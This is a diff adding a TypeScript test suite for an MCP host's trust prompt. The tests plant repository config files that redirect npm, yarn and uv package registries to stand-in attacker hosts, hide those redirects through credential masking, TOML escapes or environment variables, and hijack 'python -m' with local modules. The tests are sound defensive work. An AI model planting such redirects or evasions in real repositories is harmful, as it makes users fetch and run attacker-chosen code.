@@ -1,0 +1,120 @@
+// Round 3 of attacks on today's changes: a cloned repository's files, a hostile server, a hostile file to import.
+// Each test is one attack that works on the code it was written against: it asserts what the user should see or get,
+// so it fails until the product holds.
+import * as assert from 'assert';
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import { runnerFiles } from '../../src/core/protocol/launch/runnerSettings.lazy';
+
+describe('attacks, round 3', function () {
+  this.timeout(30_000);
+  let dir: string;
+  let home: string;
+
+  beforeEach(() => {
+    const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'mcphost-attack3-')));
+    // The repository lies outside the (pretend) home folder, so every folder from it up counts as the project's.
+    home = path.join(root, 'home');
+    dir = path.join(root, 'repo');
+    fs.mkdirSync(home);
+    fs.mkdirSync(dir);
+  });
+  afterEach(() => fs.rmSync(path.dirname(dir), { recursive: true, force: true }));
+
+  /** What the trust question lists of the project's runner files: each file with its settings, one string. */
+  const shown = (command: string, args: string[], env: Record<string, string> = {}): string =>
+    runnerFiles(command, args, dir, env, home)
+      .map((f) => `${f.path}: ${f.kind === 'module' ? `module ${f.module}` : f.settings.join(' · ')}`)
+      .join('\n');
+
+  describe('runner settings hidden from the trust question', () => {
+    it('a .yarnrc.yml flow mapping that starts with a credential key hides npmRegistryServer behind the mask', () => {
+      // One YAML line, two keys: the first names a credential, so everything after it was masked, the registry too.
+      fs.writeFileSync(path.join(dir, '.yarnrc.yml'), '{ npmAuthToken: "none", npmRegistryServer: "https://registry.attacker.example" }\n');
+      const text = shown('yarn', ['dlx', 'some-mcp-server']);
+      assert.ok(text.includes('registry.attacker.example'), `the registry yarn fetches from is shown: ${text}`);
+    });
+
+    it('a uv.toml array line whose first URL has "token=" in its query masks the next index URL', () => {
+      fs.writeFileSync(path.join(dir, 'uv.toml'), 'extra-index-url = [\n  "https://pypi.org/simple?token=none", "https://packages.attacker.example/simple",\n]\n');
+      const text = shown('uvx', ['some-mcp-server']);
+      assert.ok(text.includes('packages.attacker.example'), `the index uv installs from is shown: ${text}`);
+    });
+
+    it('the masked registry of a flow mapping changed later is a change of the question (not trusted as before)', () => {
+      const file = path.join(dir, '.yarnrc.yml');
+      fs.writeFileSync(file, '{ npmAuthToken: "none", npmRegistryServer: "https://registry.yarnpkg.com" }\n');
+      const before = shown('yarn', ['dlx', 'some-mcp-server']);
+      fs.writeFileSync(file, '{ npmAuthToken: "none", npmRegistryServer: "https://registry.attacker.example" }\n');
+      const after = shown('yarn', ['dlx', 'some-mcp-server']);
+      // The plan's identity is made of these lines: the same lines, the same identity, no question.
+      assert.notStrictEqual(after, before, 'another registry makes another question');
+    });
+
+    it('a pyproject.toml table header written with a TOML escape ([tool."\\u0075v"]) is still uv\'s settings', () => {
+      // TOML reads "\u0075v" as "uv": uv takes this index; the question did not list the file at all.
+      fs.writeFileSync(path.join(dir, 'pyproject.toml'), '[project]\nname = "x"\n\n[tool."\\u0075v"]\nindex-url = "https://packages.attacker.example/simple"\n');
+      const text = shown('uvx', ['some-mcp-server']);
+      assert.ok(text.includes('packages.attacker.example'), `pyproject.toml's uv index is shown: ${text || '(nothing listed)'}`);
+    });
+  });
+
+  describe("settings files the server's own environment points the runner to", () => {
+    it('NPM_CONFIG_USERCONFIG set by the workspace entry: the .npmrc it names is listed', () => {
+      fs.mkdirSync(path.join(dir, 'conf'));
+      const npmrc = path.join(dir, 'conf', 'npmrc');
+      fs.writeFileSync(npmrc, 'registry=https://registry.attacker.example/\n');
+      const text = shown('npx', ['-y', 'some-mcp-server'], { NPM_CONFIG_USERCONFIG: npmrc });
+      assert.ok(text.includes('registry.attacker.example'), `the settings npx reads are shown: ${text || '(nothing listed)'}`);
+    });
+
+    it('HOME set by the workspace entry: the .npmrc npm reads as the user\'s is listed', () => {
+      const fakeHome = path.join(dir, 'conf');
+      fs.mkdirSync(fakeHome);
+      fs.writeFileSync(path.join(fakeHome, '.npmrc'), 'registry=https://registry.attacker.example/\n');
+      const text = shown('npx', ['-y', 'some-mcp-server'], { HOME: fakeHome });
+      assert.ok(text.includes('registry.attacker.example'), `the settings npx reads are shown: ${text || '(nothing listed)'}`);
+    });
+
+    it('UV_CONFIG_FILE set by the workspace entry: the uv.toml it names is listed', () => {
+      const file = path.join(dir, 'conf.toml');
+      fs.writeFileSync(file, 'index-url = "https://packages.attacker.example/simple"\n');
+      const text = shown('uvx', ['some-mcp-server'], { UV_CONFIG_FILE: file });
+      assert.ok(text.includes('packages.attacker.example'), `the settings uvx reads are shown: ${text || '(nothing listed)'}`);
+    });
+
+    it('YARN_RC_FILENAME set by the workspace entry: the rc file yarn reads instead of .yarnrc.yml is listed', () => {
+      fs.writeFileSync(path.join(dir, '.ci-yarnrc.yml'), 'npmRegistryServer: "https://registry.attacker.example"\n');
+      const text = shown('yarn', ['dlx', 'some-mcp-server'], { YARN_RC_FILENAME: '.ci-yarnrc.yml' });
+      assert.ok(text.includes('registry.attacker.example'), `the settings yarn reads are shown: ${text || '(nothing listed)'}`);
+    });
+  });
+
+  describe("python -m: the working directory's module hidden from the question", () => {
+    beforeEach(() => fs.writeFileSync(path.join(dir, 'evil_server.py'), 'print("runs the repository\'s copy")\n'));
+
+    it('-E with PYTHONSAFEPATH=1 in the entry: -E ignores PYTHONSAFEPATH, so the local module is imported', () => {
+      const text = shown('python3', ['-E', '-m', 'evil_server'], { PYTHONSAFEPATH: '1' });
+      assert.ok(text.includes('module evil_server'), `the local module is named: ${text || '(nothing listed)'}`);
+    });
+
+    it('a module name with a hyphen (python -m evil-server) imports ./evil-server.py', () => {
+      fs.writeFileSync(path.join(dir, 'evil-server.py'), 'print("runs the repository\'s copy")\n');
+      const text = shown('python3', ['-m', 'evil-server']);
+      assert.ok(text.includes('evil-server.py'), `the local module is named: ${text || '(nothing listed)'}`);
+    });
+
+    it("uv run --module evil_server (uv's long name of -m) imports the working directory's copy", () => {
+      const text = shown('uv', ['run', '--module', 'evil_server']);
+      assert.ok(text.includes('module evil_server'), `the local module is named: ${text || '(nothing listed)'}`);
+    });
+
+    it('uv run --directory sub -m evil_server imports sub/evil_server.py', () => {
+      fs.mkdirSync(path.join(dir, 'sub'));
+      fs.writeFileSync(path.join(dir, 'sub', 'other_server.py'), 'print("runs the repository\'s copy")\n');
+      const text = shown('uv', ['run', '--directory', 'sub', '-m', 'other_server']);
+      assert.ok(text.includes('other_server'), `the local module is named: ${text || '(nothing listed)'}`);
+    });
+  });
+});
